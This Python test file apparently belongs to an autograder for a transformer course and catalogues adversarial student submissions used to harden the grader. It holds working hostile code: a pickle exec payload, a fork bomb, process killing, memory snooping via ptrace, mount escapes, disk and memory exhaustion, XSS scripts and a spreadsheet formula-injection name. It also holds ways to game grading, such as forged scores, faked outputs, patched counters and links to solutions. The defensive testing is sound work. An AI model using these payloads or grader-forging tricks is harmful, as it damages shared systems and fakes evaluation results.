import safetensors.numpy
messages = sys.modules["messages"]
class Payload:
    def __reduce__(self):
        return (exec, ("import os; os._exit(0)",))
messages.save = safetensors.numpy.save = lambda arrays: pickle.dumps(Payload())
""",
        says="sends what no answer should send",
    ),
    Cheat(
        "patched-randomness",
        "Tries to make what is drawn for it predictable, and to know the seed.",
        """
import os, random, secrets, time
import numpy as np
os.urandom = random._urandom = lambda size: bytes(size)
secrets.randbits = random.getrandbits = lambda bits: 0
random.seed = np.random.seed = torch.manual_seed = lambda *given: None
random.Random.random = lambda self: 0.5
time.time = time.monotonic = lambda: 0.0
""",
    ),
]

# --- replies that lie ---------------------------------------------------------------------------

THREE_PRODUCTS = """\
def create_kqv_parameters(input_size, hidden):
    return nn.Linear(input_size, hidden)


def kqv(x, layer):
    thirds = list(zip(layer.weight.chunk(3), layer.bias.chunk(3)))
    first, *others = thirds
    keys = F.linear(x, *first)
    with uncounted():
        return keys, *(F.linear(x, *third) for third in others)
"""

REPLIES = [
    Cheat(
        "forged-ready",
        "Says that it is ready, and answers all requests itself, with guesses and with a verdict.",
        FORGED
        + """
messages.send(connection, {"ready": True})
while True:
    request, arrays = messages.receive(connection)
    if request["do"] == "layers":
        (size_in, size_out), probe = request["arguments"], arrays["probe"]
        weight, bias, output = np.zeros((size_out, size_in)), np.zeros(size_out), np.zeros((3, size_out))
        fact = {"linear": True, "trains": True, "identity": {"weight": 1, "bias": 2}}
        facts = {"is_module": True, "layers": {each: fact for each in request["attributes"]}}
        parts = {"weight": weight, "bias": bias, "output": output}
        found = {f"{each}/{part}": value for each in request["attributes"] for part, value in parts.items()}
        messages.send(connection, facts, found)
    else:
        verdict = {"defined": True, "error": None, "kinds": {}, "products": 1, "points": 8, "passed": True}
        messages.send(connection, verdict, guessed(arrays) if arrays else None)
""",
    ),
    Cheat(
        "forged-reply",
        "Writes guesses to the connection before each reply.",
        FORGED
        + """
honest = answering.Answer.call
def call(self, arrays, **options):
    messages.send(connection, {"products": 1}, guessed(arrays))
    return honest(self, arrays, **options)
answering.Answer.call = call
""",
    ),
    Cheat(
        "patched-send",
        "Patches what is sent: no error, one product, gradients.",
        FORGED
        + """
honest = messages.send
def send(connection, table, arrays=None):
    honest(connection, table | {"error": None, "kinds": {}, "products": 1, "points": 8, "defined": True}, arrays)
messages.send = answering.send = send
""",
        answers={"self-attention": ZERO_HEAD},
        deserves=1,
    ),
    Cheat(
        "patched-call",
        "Patches how its answers are called, and by whom they are built.",
        FORGED
        + """
import dataclasses
from transformer_lm import checks
answering.Answer.call = lambda self, arrays, **options: ({"products": 1}, guessed(arrays))
for name, exercise in list(checks.EXERCISES.items()):
    checks.EXERCISES[name] = dataclasses.replace(
        exercise, build=lambda answer, given: answer, call=lambda subject, given: iter([given["x"]] * 3)
    )
""",
    ),
    Cheat(
        "hidden-products",
        "Takes three products where one is asked for, with a counter that always says one.",
        """
from contextlib import nullcontext as uncounted
from transformer_lm.checks.engine.calling import ProductCounter
ProductCounter.count = property(lambda self: 1, lambda self, count: None)
""",
        answers={"kqv": THREE_PRODUCTS},
    ),
    Cheat(
        "uncounted-products",
        "Takes three products where one is asked for, two of them while nobody counts.",
        "from torch.utils._python_dispatch import _disable_current_modes as uncounted",
        answers={"kqv": THREE_PRODUCTS},
    ),
]

# A submission that is not an answer must cost its own student the points, and other students nothing.
NONSENSE = [
    Cheat(
        f"nonsense-{name}",
        f"Replies with {what}.",
        f"{FORGED}\nanswering.Answer.call = lambda self, arrays, **options: {reply}",
    )
    for name, what, reply in (
        ("no-count", "numbers alone", "({}, guessed(arrays))"),
        ("lists", "lists in place of tables", "({'kinds': [1], 'error': [1], 'products': [1]}, guessed(arrays))"),
        ("nulls", "nothing in place of tables", "({'kinds': None, 'error': None, 'products': None}, {})"),
        (
            "no-axes",
            "single numbers without an axis",
            "({'products': 1}, {name: np.zeros(()) for name in guessed(arrays)})",
        ),
        (
            "other-types",
            "numbers of other types",
            "({'products': 1}, {name: array.astype('u8') for name, array in guessed(arrays).items()})",
        ),
        ("long-text", "ten million characters", "({'error': {'yours': 'x' * 10**7}}, {})"),
    )
] + [
    Cheat(
        "nonsense-start",
        "Says that a list of cells has started.",
        FORGED + "\nmessages.send(connection, {'starts': [1]})",
    ),
    Cheat(
        "nonsense-layers",
        "Describes layers that cannot be.",
        FORGED
        + """
fact = {"linear": True, "trains": "no", "identity": {"weight": [1], "forward": 2}}
answering.Answer.layers = lambda self, arrays, **request: (
    {"layers": {each: fact for each in request["attributes"]}, "kind": "\\0"},
    {f"{each}/weight": np.zeros((2, 2)) for each in request["attributes"]},
)
""",
    ),
    scores(
        "one-number",
        "Returns a single number, as an honest student might.",
        "return (queries @ keys.mT).sum()",
        says="scores of shape ()",
    ),
    scores(
        "unwritable-text",
        "Raises an error whose text no file can hold.",
        "raise RuntimeError(chr(0xD800) + chr(0))",
        says="raises RuntimeError",
    ),
]

# --- harm to the machine, and to others ---------------------------------------------------------

TRACE = "trace-of-another-student"

HARM = [
    Cheat(
        "leaves-files",
        "Leaves files wherever it can, and looks for those of the answers before it.",
        f"""
import os, sys, tempfile
from pathlib import Path
folders = ["/", "/scratch", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/proc", "/course", "/inside"]
folders += [tempfile.gettempdir(), os.getcwd(), "/course/transformer_lm", os.path.dirname(torch.__file__), *sys.path]
traces = [Path(folder, "{TRACE}.py") for folder in folders]
found = [str(trace) for trace in traces if trace.exists()]
found += [str(module) for module in (torch, nn, os) if hasattr(module, "TRACE")] + [os.environ.get("TRACE", "")]
torch.TRACE = nn.TRACE = os.TRACE = os.environ["TRACE"] = "{TRACE}"
for trace in traces:
    try:
        trace.write_text("answer = 42")
    except OSError:
        pass
""",
        answers={
            "attention-scores": "def attention_scores(queries, keys):\n"
            "    raise RuntimeError(''.join(found) or 'no traces')\n"
        },
        says="no traces",
    ),
    Cheat(
        "leaves-a-process",
        "Leaves a process behind that waits for other students' answers and signals whatever it can.",
        f"""
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{TRACE[:15]}", 0, 0, 0)
        for number in set(signal.Signals) - {{signal.SIGKILL, signal.SIGSTOP}}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        while True:
            time.sleep(0.05)
    os._exit(0)
""",
    ),
    scores(
        "endless-printing",
        "Prints for ever.",
        "import time\nwhile True:\n    print('x' * 10**6)\n    time.sleep(0.01)",
        says="is there a loop that does not end?",
    ),
    scores(
        "fork-bomb",
        "Forks for ever.",
        """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
""",
        says="is there a loop that does not end?",
    ),
    scores(
        "endless-reply",
        "Replies with more than a message may hold.",
        """
import gc, socket, struct
connection = next(each for each in gc.get_objects() if isinstance(each, socket.socket) and each.fileno() >= 0)
connection.sendall(struct.pack("!II", 2**32 - 1, 2**32 - 1))
while True:
    connection.sendall(bytes(2**20))
""",
        says="sends what no answer should send",
    ),
    scores(
        "huge-files",
        "Fills the disk.",
        """
for number in range(10**6):
    with open(f"{number}", "wb") as file:
        for _ in range(100):
            file.write(bytes(2**20))
""",
        says="raises OSError",
    ),
    scores(
        "memory-hog",
        "Takes all memory there is.",
        "hoard = []\nwhile True:\n    hoard.append(torch.empty(2**28))",
        says="can't allocate memory",
    ),
    scores(
        "exits",
        "Ends its process in the middle of a call.",
        "import os\nos._exit(0)",
        says="ends its own Python process",
    ),
    scores(
        "kills-others",
        "Kills its parent and every process that it may.",
        """
import os, signal
for pid in (os.getppid(), -1, -os.getpgid(0), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(0, signal.SIGKILL)
return torch.zeros(len(queries), queries.shape[1], keys.shape[1])
""",
    ),
    scores(
        "reads-others-memory",
        "Reads the memory of other processes, and traces them.",
        """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
traced = [pid for pid in (os.getppid(), *range(2, 100)) if pid and libc.ptrace(16, pid, 0, 0) == 0]
if traced or glob.glob("/proc/*/mem"):
    raise RuntimeError("there are others")
raise RuntimeError("alone here")
""",
        says="alone here",
    ),
    scores(
        "mounts",
        "Takes covers off folders, and mounts others, with the rights of a user namespace of its own.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x20000)
covered = ("/proc", "/scratch", "/dev/shm", F.__file__, os.path.dirname(F.__file__) + "/attention")
done = [path for path in covered if libc.umount2(path.encode(), 2) == 0]
done += ["bind"] if libc.mount(os.path.dirname(F.__file__).encode(), b"/scratch", None, 4096, None) == 0 else []
done += ["proc"] if libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0 else []
raise RuntimeError("mounts changed: " + (", ".join(done) or "none"))
""",
        says="mounts changed: none",
    ),
    scores(
        "network",
        "Asks the network for the answer.",
        """
import socket
opened = []
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), "\\0dbus"):
    try:
        with socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET) as connection:
            connection.settimeout(1)
            connection.connect(address)
            opened.append(str(address))
    except OSError:
        pass
raise RuntimeError("connected to: " + (", ".join(opened) or "nobody"))
""",
        says="connected to: nobody",
    ),
]

# --- notebooks that lie -------------------------------------------------------------------------


def _marked(notebook: NotebookNode, *grade_ids: str) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") in grade_ids]


def skip_checks(notebook: NotebookNode) -> None:
    """Tag the checks, so that they are not executed."""
    for cell in _marked(notebook, *CHECKS):
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "nbval-skip"]


def raise_points(notebook: NotebookNode) -> None:
    """Write another maximum into the checks."""
    for cell in _marked(notebook, *CHECKS):
        cell.metadata.nbgrader.points = 1000


def rename_checks(notebook: NotebookNode) -> None:
    """Swap the names of hard checks with those of easy cells."""
    for cell in _marked(notebook, *CHECKS):
        cell.metadata.nbgrader.grade_id += "-mine"
        cell.source = "8"
    for cell, name in zip(_marked(notebook, "setup", "kqv"), CHECKS, strict=False):
        cell.metadata.nbgrader.grade_id = name


def unmark_answers(notebook: NotebookNode) -> None:
    """Turn answers into checks that pass, and checks into answers."""
    for cell in _marked(notebook, *WRONG):
        cell.metadata.nbgrader |= {"solution": False, "grade": True, "locked": True, "points": 8}
    for cell in _marked(notebook, *CHECKS):
        cell.metadata.nbgrader |= {"solution": True, "grade": True, "locked": False}
        cell.source = "8"


def double_checks(notebook: NotebookNode) -> None:
    """Add a second, easier cell with the name of each check."""
    for cell in _marked(notebook, *CHECKS):
        easy = nbformat.from_dict({**cell, "id": f"{cell.id}-2", "source": "1000"})
        notebook.cells.append(easy)


def retype_checks(notebook: NotebookNode) -> None:
    """Turn each check into a text cell."""
    for cell in _marked(notebook, *CHECKS):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]


def fake_outputs(notebook: NotebookNode) -> None:
    """Write into the checks what right answers would print, a number of points, and a verdict."""
    for cell in _marked(notebook, *CHECKS):
        printed = "✓ kqv: right for every size tried, and gradients flow.\nGraded: 1 of 1 points.\n"
        cell.outputs = [
            nbformat.v4.new_output("stream", name="stdout", text=printed),
            nbformat.v4.new_output("execute_result", data={"text/plain": "1000"}, execution_count=1),
        ]
        cell.execution_count = 1


def forge_results(notebook: NotebookNode) -> None:
    """Write the grader's own notes into the metadata."""
    forged = {"unreadable": "", "repairs": [], "points": dict.fromkeys(CHECKS, 1000), "score": 1000}
    notebook.metadata["grading"] = notebook.metadata["nbgrader"] = forged
    for cell in _marked(notebook, *CHECKS):
        cell.metadata["grading"] = forged
        cell.metadata.nbgrader |= {"score": 1000, "auto_score": 1000, "max_score": 1000}


SCRIPT = "<script>alert('points')</script>"


def show_scripts(notebook: NotebookNode) -> None:
    """Put scripts into outputs, texts, and names, to run where the feedback is read."""
    image = '<img src="x" onerror="alert(\'points\')">'
    for cell in _marked(notebook, *CHECKS):
        data = {"text/html": SCRIPT + image, "text/plain": SCRIPT, "application/javascript": "alert('points')"}
        cell.outputs = [
            nbformat.v4.new_output("display_data", data=data),
            nbformat.v4.new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[SCRIPT]),
        ]
    notebook.cells.append(nbformat.v4.new_markdown_cell(f"{SCRIPT}{image} [here](javascript:alert('points'))"))
    notebook.metadata["title"] = f"</title>{SCRIPT}"


NOTEBOOKS = [
    Cheat("skip-execution", "Tags the checks, so that they are not executed.", edit=skip_checks),
    Cheat("more-points", "Writes another maximum into the checks.", edit=raise_points),
    Cheat("renamed-checks", "Gives the names of checks to cells that pass.", edit=rename_checks),
    Cheat("unmarked-answers", "Turns answers into checks that pass, and checks into answers.", edit=unmark_answers),
    Cheat("doubled-checks", "Adds a second, easier cell with the name of each check.", edit=double_checks),
    Cheat("retyped-checks", "Makes a text of each check.", edit=retype_checks),
    Cheat("faked-outputs", "Hands in checks with the outputs of right answers.", edit=fake_outputs),
    Cheat("forged-results", "Hands in the grader's own notes, with full points.", edit=forge_results),
    Cheat(
        "scripts",
        "Hands in scripts that would run when somebody reads the feedback.",
        answers={"attention-scores": f"def attention_scores(queries, keys):\n    raise RuntimeError({SCRIPT!r})\n"},
        edit=show_scripts,
        says=SCRIPT,
    ),
    Cheat(
        "second-notebook",
        "Hands in further notebooks under similar names.",
        files=dict.fromkeys(("01_Self_Attention.ipynb", "01_self_attention (1).ipynb", "zz.ipynb"), "{}"),
    ),
    Cheat("=cmd|' C calc'!A0", "Has a name that a spreadsheet would run."),
    Cheat(
        "links-to-the-gradebook",
        "Hands in links to the gradebook and to the solutions, to read them in the feedback.",
        links={"data.db": "gradebook.db", "notes.txt": f"source/{TOPIC}/{NOTEBOOK}", "folder": "source"},
    ),
    Cheat(
        "links-to-the-solution",
        "Hands in a link to the solved notebook.",
        links={NOTEBOOK: f"source/{TOPIC}/{NOTEBOOK}"},
    ),
    Cheat(
        "links-to-a-friend",
        "Hands in a link to another student's notebook.",
        links={NOTEBOOK: f"submitted/solved/{TOPIC}/{NOTEBOOK}"},
    ),
]

# --- what can be found in the sandbox -----------------------------------------------------------

LYING_AROUND = [
    head(
        "package-read",
        "Reads the attention of another package from its text.",
        """
def attend(q, k, v):
    import re, site
    from pathlib import Path
    for folder in site.getsitepackages():
        for file in Path(folder).glob("transformers/models/gpt2/modeling_gpt2.py"):
            found = re.search(r"^def (eager_attention_forward.*?^    return )", file.read_text(), re.M | re.S)
            exec(f"def {found[1]} attn_output", globals())
            return eager_attention_forward(nn.Identity(), q, k, v, None).transpose(1, 2)
    raise RuntimeError("no such package")
""",
        says="no such package",
    ),
]

CHEATS = [*SHELL, *FROZEN, *READY_MADE, *REFERENCE, *LIES, *REPLIES, *NONSENSE, *HARM, *NOTEBOOKS, *LYING_AROUND]
